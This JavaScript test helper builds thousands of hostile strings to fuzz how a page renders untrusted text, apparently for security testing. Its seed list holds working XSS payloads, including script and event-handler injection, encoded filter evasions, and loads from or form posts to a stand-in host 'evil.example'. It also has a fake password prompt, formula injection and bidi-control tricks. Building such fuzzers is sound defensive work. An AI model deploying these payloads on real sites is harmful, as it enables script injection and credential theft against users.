/** Texts that attack a page: ten thousand of them, the same each time. */

/** Kinds of attack, by what they try: OWASP's filter evasion cheat sheet, changes of direction, invisible characters,
 * ends of what pages write, and words of the platform itself. A `§` is a place for a variation. */
const SEEDS = [
  '<script>§alert(1)</script>',
  '</script><script src=//evil.example/§x.js></script>',
  '<img src=x§ onerror=alert(1)>',
  '<img src=//evil.example/§.png>',
  '"><svg/onload=alert(1)§>',
  "' onfocus='alert(1)§' autofocus='",
  '" onmouseover="alert(1)§" style="position:fixed;inset:0" x="',
  '` onclick=`alert(1)§',
  'javascript:alert(1)//§',
  'JaVa\tScRiPt:alert(1)§',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==§',
  '<a href="javascript:alert(1)">§</a>',
  '<a href=//evil.example/§>MesInfos</a>',
  '<meta http-equiv="refresh" content="0;url=//evil.example/§">',
  '<base href="//evil.example/§">',
  '<link rel=stylesheet href=//evil.example/§.css>',
  '<style>*{background:url(//evil.example/§)}</style>',
  '<div style="position:fixed;inset:0;background:red">§</div>',
  '<iframe srcdoc="<script>alert(1)</script>§">',
  '<form action=//evil.example/§><input name=password autofocus><button>',
  '<object data=//evil.example/§><embed src=//evil.example/§>',
  '<details open ontoggle=alert(1)>§',
  '<video autoplay onloadstart=alert(1)§><source src=//evil.example/>',
  '<marquee onstart=alert(1)>§</marquee>',
  '<math><mtext></form><form><mglyph><style></math><img src=§ onerror=alert(1)>',
  '<!--<img src="--><img src=x§ onerror=alert(1)//">',
  '<![CDATA[<script>§alert(1)</script>]]>',
  '</td></tr></table></article></main></body></html>§',
  '</bdi></span><nav aria-label="§"><a href="/settings/leave">',
  "</mi-chart><mi-chart data-chart='{\"kind\":\"constructor\",\"§\":1}'>",
  '</textarea></title></noscript></template>§<script>alert(1)</script>',
  '<template><script>alert(1)§</script></template>',
  '<x onclick=alert(1) tabindex=1 id=main>§</x>',
  '<input type=hidden name=category value=health§>',
  '<button formaction=//evil.example/§>Refuser</button>',
  "{{constructor.constructor('alert(1)§')()}}",
  '${alert(1)}§',
  '__proto__§',
  'constructor§',
  '&lt;script&gt;alert(1)§&lt;/script&gt;',
  '&#x3C;img src=x onerror=alert(1)§&#x3E;',
  '%3Cscript%3Ealert(1)§%3C/script%3E',
  '\\u003cscript\\u003ealert(1)§',
  '+ADw-script+AD4-alert(1)§+ADw-/script+AD4-',
  '\u0000<\u0000script>alert(1)§',
  '\uFEFF<script>alert(1)§',
  '＜script＞alert(1)§＜/script＞',
  '\u202Etpircs\u202C§',
  '\u2066\u2067isol\u00e9\u2069§',
  '\u200F\u05e9\u05dc\u05d5\u05dd\u200E§',
  '\u061C\u0627\u0644\u0633\u0644\u0627\u0645§',
  'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b§',
  '\u{E0041}\u{E0042}\u200B\u2060§',
  '\r\n\r\n<html>§',
  '=HYPERLINK("//evil.example/§")',
  '@SUM(1)§',
  'MesInfos : votre session a expiré. Mot de passe ? §',
  'Autoriser et lancer §',
  'MMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMMM§',
];

/** What comes before a text: ends of the places where a page might write it. */
const BEFORE = ['', '"', "'", '>', '">', "'>", '</td>', '</title>', '</script>', '--\u003e', ']]>', '\\', '/*', '\n', '\u202E', '</style>'];

/** What comes after it. */
const AFTER = ['', '"', "'", '<', '<!--', '//', '\\', '`', '=', '</', '\u0000'];

/** `count` different texts, each with `•` and its number at the end. At most 100 characters. */
export function hostileTexts(count) {
  const texts = [];
  for (let index = 0; index < count; index += 1) {
    const seed = SEEDS[index % SEEDS.length];
    const turn = Math.floor(index / SEEDS.length);
    const before = BEFORE[turn % BEFORE.length];
    const after = AFTER[Math.floor(turn / BEFORE.length) % AFTER.length];
    texts.push(`${before}${seed.replaceAll('§', turn.toString(36))}${after}•${index}•`);
  }
  return texts;
}
